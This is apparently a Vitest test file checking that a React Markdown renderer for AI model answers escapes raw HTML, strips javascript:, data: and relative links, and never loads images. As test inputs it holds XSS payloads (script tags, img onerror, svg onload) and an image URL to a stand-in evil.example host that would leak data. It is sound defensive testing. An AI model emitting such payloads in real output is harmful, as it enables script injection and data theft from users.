/** Model output is text: Markdown rendering never turns it into HTML that runs. (In Chromium: e2e/browser.spec.ts.) */
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown, safeHref } from "../../renderer/components/Markdown.js";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

describe("Markdown of an answer", () => {
  it("renders Markdown and highlights code blocks", () => {
    const html = render("**bold** and `x`\n\n```js\nconst a = 1;\n```");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toMatch(/<code class="hljs language-js">.*hljs-keyword/s);
  });

  it("raw HTML in the output is shown as the text it is, never as elements", () => {
    const html = render(
      'hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n<iframe src="https://evil"></iframe>\n\n<svg onload=alert(3)>',
    );
    expect(html).not.toMatch(/<(img|script|iframe|svg)\b/i);
    // escaped, so the reader sees what the model wrote
    expect(html).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
    expect(html).toContain("&lt;script&gt;alert(2)&lt;/script&gt;");
    expect(html).toContain("&lt;iframe");
  });

  it("javascript:, data: and relative links lose their target; http(s) links open outside the app", () => {
    const html = render(
      "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>x</script>) [d](/etc/passwd) [e](https://example.org/x)",
    );
    expect(html).not.toMatch(/javascript:|data:text/i);
    expect(html).not.toContain("/etc/passwd");
    expect(html.match(/<a /g)).toHaveLength(1);
    expect(html).toContain('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">e</a>');
    expect(html).toContain('<span class="dropped-link">a</span>');
  });

  it("images are never loaded (a URL in an answer could carry data away)", () => {
    const html = render("![secret](https://evil.example/leak?q=data) and ![](data:image/png;base64,AAAA)");
    expect(html).not.toMatch(/<img\b/);
    expect(html).not.toContain("evil.example");
    expect(html).toContain("[image: secret]");
  });

  it("safeHref keeps absolute http(s) and mailto only", () => {
    expect(safeHref("https://a.b/c?d#e")).toBe("https://a.b/c?d#e");
    expect(safeHref("mailto:x@y.z")).toBe("mailto:x@y.z");
    for (const bad of [
      "javascript:alert(1)",
      " javascript:alert(1)",
      "vbscript:x",
      "data:text/html,x",
      "file:///etc/passwd",
      "/relative",
      "#top",
      "",
    ]) {
      expect(safeHref(bad), bad).toBeNull();
    }
  });
});
